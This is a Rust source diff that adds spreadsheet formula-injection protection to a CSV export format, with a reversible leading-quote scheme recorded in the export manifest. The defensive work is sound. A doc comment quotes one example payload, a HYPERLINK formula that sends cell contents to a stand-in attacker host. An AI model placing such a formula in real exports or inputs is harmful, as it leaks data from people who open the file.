@@ -62,6 +62,44 @@ impl FromStr for Format {
     }
 }
 
+/// How CSV cells are written. A cell that starts with `=`, `+`, `-` or `@` (or a
+/// tab or CR, which spreadsheets skip before one of those) is run as a formula by
+/// Excel, LibreOffice and Google Sheets when the file is opened: a user-supplied
+/// reason such as `=HYPERLINK("https://evil.example?"&A1)` would send data away.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum CsvCells {
+    /// The default. OWASP's rule: such a cell gets a leading `'`, which spreadsheets
+    /// show as text. A cell already starting with `'` gets one too, so taking exactly
+    /// one `'` off every cell that starts with one gives the stored value back: verify
+    /// does that before checking the chains.
+    Neutralised,
+    /// Every cell as stored (`?raw=true`, `--csv-raw`; and files from before this
+    /// field, whose manifests lack it).
+    Raw,
+}
+
+impl CsvCells {
+    const TRIGGERS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];
+
+    /// The cell as written to the file.
+    pub fn write(self, cell: &str) -> std::borrow::Cow<'_, str> {
+        match self {
+            CsvCells::Neutralised if cell.starts_with(Self::TRIGGERS) => format!("'{cell}").into(),
+            _ => cell.into(),
+        }
+    }
+
+    /// The stored value of a cell read from the file.
+    pub fn read(self, cell: &str) -> &str {
+        match self {
+            // Every cell that starts with `'` in such a file was given one.
+            CsvCells::Neutralised => cell.strip_prefix('\'').unwrap_or(cell),
+            CsvCells::Raw => cell,
+        }
+    }
+}
+
 /// Why the file exists: an export someone asked for, or rows the pruner archived
 /// before deleting them.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
@@ -98,6 +136,9 @@ pub struct Manifest {
     /// checkpointed head (absent before the first checkpoint).
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub evidence: Option<ExportEvidence>,
+    /// CSV only: whether formula-like cells carry a leading `'` (absent: raw).
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub csv_cells: Option<CsvCells>,
 }
 
 pub const ORDER: &str = "key, seq";
